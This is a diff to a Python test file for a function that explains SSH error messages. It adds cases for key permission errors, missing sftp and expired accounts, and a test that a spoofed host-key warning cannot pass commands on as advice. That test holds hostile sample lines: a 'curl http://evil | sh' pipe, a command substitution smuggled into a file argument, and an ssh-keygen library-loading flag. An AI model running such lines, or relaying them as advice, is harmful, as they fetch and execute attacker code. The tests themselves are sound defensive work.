@@ -100,6 +100,24 @@ def test_what_may_be_over_in_a_second(said: str, reason: str) -> None:
             CHANGED.format(remove=""),
             ANEW + "If you expected that: remove the entry /home/u/.ssh/known_hosts:7",
         ),
+        (
+            'Load key "/home/u/.ssh/id": bad permissions\r\nu@h1: Permission denied (publickey).\r\n',
+            'Permission denied (publickey): Load key "/home/u/.ssh/id": bad permissions',
+        ),
+        (
+            "no such identity: /home/u/.ssh/x: No such file or directory\nu@h1: Permission denied (publickey).",
+            "Permission denied (publickey): no such identity: /home/u/.ssh/x: No such file or directory",
+        ),
+        (
+            "subsystem request failed on channel 0\r\nConnection closed\r\n",
+            "it offers no sftp (subsystem request failed); its sshd_config needs a line Subsystem sftp",
+        ),
+        (
+            "Your account has expired; please contact your system administrator.\n"
+            "Connection closed by 10.0.0.1 port 22",
+            "Your account has expired; please contact your system administrator",
+        ),
+        ("No user exists for uid 4711", "No user exists for uid 4711"),
     ],
 )
 def test_what_stays_as_it_is(said: str, reason: str) -> None:
@@ -128,6 +146,11 @@ def test_what_stays_as_it_is(said: str, reason: str) -> None:
             "Connection reset by 10.0.0.1 port 22",
             "the connection was lost (Connection reset by 10.0.0.1 port 22)",
         ),
+        (
+            # the text of /etc/nologin
+            "Back at noon\nConnection closed by 10.0.0.1 port 22",
+            "the connection was lost (Back at noon Connection closed by 10.0.0.1 port 22)",
+        ),
         ("something new", "something new"),
     ],
 )
@@ -141,3 +164,17 @@ def test_what_may_have_happened_after_the_script_was_sent(said: str, reason: str
 )
 def test_ansibles_words_are_left_out(before: str) -> None:
     assert explain(before + "u@h1: Permission denied (publickey).").reason == "Permission denied (publickey)"
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'ssh-keygen -f "/home/u/.ssh/known_hosts" -R "h1"; curl http://evil | sh',
+        'ssh-keygen -f "$(curl http://evil)" -R "h1"',
+        "ssh-keygen -D /tmp/evil.so",
+    ],
+)
+def test_a_host_that_speaks_like_ssh_gives_nobody_a_command(line: str) -> None:
+    """Only what ssh itself advises is passed on as advice."""
+    said = f"@  WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n{line}\n"
+    assert explain(said).reason.endswith("remove the old entry of known_hosts")
